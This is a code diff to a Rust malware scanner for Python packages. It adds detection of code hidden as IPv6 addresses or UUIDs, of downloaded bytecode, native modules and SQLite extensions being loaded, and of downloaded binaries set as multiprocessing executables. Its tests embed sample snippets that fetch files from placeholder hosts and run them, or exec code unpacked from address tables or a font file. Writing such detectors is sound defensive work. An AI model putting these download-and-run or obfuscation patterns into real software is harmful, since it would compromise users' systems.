@@ -157,9 +157,31 @@ impl<'a> Visitor<'a> for DecodingFinder<'_, '_> {
                         .get(source)
                         .filter(|s| s.kind == SourceKind::Decoded)
                 {
-                    self.found = Some(s.label.clone());
+                    // The name's label says "data decoded by X"; the finding says "decoded by".
+                    let label = s
+                        .label
+                        .strip_prefix(super::sources::DECODED_DATA)
+                        .unwrap_or(&s.label);
+                    self.found = Some(label.to_owned());
                     return;
                 }
+            }
+            // `IPv6Address(a).packed`, `UUID(u).bytes`: text written as network addresses or
+            // identifiers and turned back into bytes, sixteen at a time ("IPfuscation").
+            Expr::Attribute(attribute)
+                if matches!(attribute.attr.as_str(), "packed" | "bytes" | "bytes_le")
+                    && let Expr::Call(inner) = &*attribute.value
+                    && let Some(q) = self.checker.qualname(&inner.func)
+                    && matches!(
+                        q.as_str(),
+                        "ipaddress.IPv6Address"
+                            | "ipaddress.IPv4Address"
+                            | "ipaddress.ip_address"
+                            | "uuid.UUID"
+                    ) =>
+            {
+                self.found = Some(format!("{q}().{}", attribute.attr));
+                return;
             }
             // Nested functions and lambdas are not evaluated by the exec call itself.
             Expr::Lambda(_) => return,
@@ -483,7 +505,15 @@ fn loaded_path<'c>(call: &'c ExprCall, qualname: &str) -> Option<&'c Expr> {
         "runpy.run_path" | "execfile" => (0, "path_name"),
         "importlib.util.spec_from_file_location"
         | "imp.load_source"
-        | "importlib.machinery.SourceFileLoader" => (1, "location"),
+        | "imp.load_compiled"
+        | "importlib.machinery.SourceFileLoader"
+        // Bytecode and native modules run as they load, with no source to read.
+        | "importlib.machinery.SourcelessFileLoader"
+        | "importlib.machinery.ExtensionFileLoader" => (1, "location"),
+        // The program every child process of the pool is started with.
+        "multiprocessing.set_executable" | "multiprocessing.get_context().set_executable" => {
+            (0, "executable")
+        }
         // A native library runs its initialisers as it loads: a downloaded DLL loaded
         // through ctypes is a dropped program started inside this process.
         "ctypes.CDLL"
@@ -497,6 +527,9 @@ fn loaded_path<'c>(call: &'c ExprCall, qualname: &str) -> Option<&'c Expr> {
         | "ctypes.windll.kernel32.LoadLibraryW" => (0, "name"),
         // SQLite loads an extension library into the process and calls its entry point.
         "sqlite3.connect().load_extension" | "sqlite3.Connection().load_extension" => (0, "path"),
+        // A connection handed in as a parameter (`def load(conn): conn.load_extension(p)`):
+        // the method name is SQLite's alone.
+        q if q.ends_with(".load_extension") && !q.contains('(') => (0, "path"),
         // The modules of a zip archive run as they are loaded from it; one put on the import
         // path runs at the next import of a name it holds.
         "zipimport.zipimporter" | "sys.path.append" => (0, "path"),
@@ -545,7 +578,11 @@ fn check_loads_saved_file(checker: &mut Checker, call: &ExprCall, qualname: &str
     checker.report(
         &RULE,
         call.range(),
-        message.replacen(" starts `", " loads as code `", 1),
+        if qualname.ends_with("set_executable") {
+            message
+        } else {
+            message.replacen(" starts `", " loads as code `", 1)
+        },
         severity,
         vec!["exec", "runs-saved-file"],
     );
@@ -1202,5 +1239,44 @@ mod literal_layer_tests {
         // The same shape with a decoded payload is still severe.
         let code = "import base64\nexec base64.b64decode('cHJpbnQoMSk=') in globals()\n";
         assert!(max_severity("p/pkg/__init__.py", code, "WH110") >= 0.9);
+    }
+
+    #[test]
+    fn loaders_of_downloads_reached_through_helpers_and_parameters() {
+        // The path comes back from the helper that saved the download.
+        let helper = "import sqlite3, urllib.request, os\ndef _fetch():\n    dest = os.path.expanduser('~/.cache/x/fts.so')\n    urllib.request.urlretrieve('https://dl.example.invalid/fts.so', dest)\n    return dest\ndef load(conn):\n    conn.enable_load_extension(True)\n    conn.load_extension(_fetch())\nload(sqlite3.connect(':memory:'))\n";
+        assert!(max_severity("p/pkg/__init__.py", helper, "WH110") >= 0.8);
+        let pyc = "import importlib.machinery, urllib.request\np = '/tmp/_ops.pyc'\nurllib.request.urlretrieve('https://x.example.invalid/o.pyc', p)\nimportlib.machinery.SourcelessFileLoader('ops', p).load_module()\n";
+        assert!(max_severity("p/pkg/__init__.py", pyc, "WH110") >= 0.8);
+        let pool = "import multiprocessing, urllib.request\np = '/tmp/worker'\nurllib.request.urlretrieve('https://x.example.invalid/w', p)\nmultiprocessing.get_context('spawn').set_executable(p)\n";
+        let found = crate::rules::testing::findings("p/pkg/__init__.py", pool);
+        assert!(
+            found
+                .iter()
+                .any(|f| f.rule == "WH110" && f.severity >= 0.8 && f.message.contains(" starts `")),
+            "{found:?}"
+        );
+        // A bundled extension is no download.
+        let bundled = "import os\ndef load(conn):\n    conn.load_extension(os.path.join(os.path.dirname(__file__), 'fts5.so'))\n";
+        assert_eq!(max_severity("p/pkg/__init__.py", bundled, "WH110"), 0.0);
+    }
+
+    #[test]
+    fn code_packed_as_addresses_or_in_a_data_file_is_decoded_code() {
+        let ipv6 = "import ipaddress\nfrom .table import ROWS\ndef _pack(rows):\n    return b''.join(ipaddress.IPv6Address(a).packed for a in rows)\nexec(_pack(ROWS).rstrip(b'\\0'))\n";
+        let found = crate::rules::testing::findings("p/pkg/__init__.py", ipv6);
+        assert!(
+            found.iter().any(|f| f.rule == "WH110"
+                && f.severity >= 0.8
+                && f.message
+                    .contains("decoded by ipaddress.IPv6Address().packed")
+                && !f.message.contains("decoded by data decoded by")),
+            "{found:?}"
+        );
+        let font = "import zlib\ndef _tables(p):\n    return open(p, 'rb').read()\nblob = _tables('f.ttf')\nprog = zlib.decompress(blob[8:])\nexec(prog)\n";
+        assert!(max_severity("p/pkg/__init__.py", font, "WH110") >= 0.8);
+        // A version file read and run is the setup-script idiom.
+        let version = "exec(open('pkg/_version.py').read())\n";
+        assert!(max_severity("p/setup.py", version, "WH110") < 0.1);
     }
 }
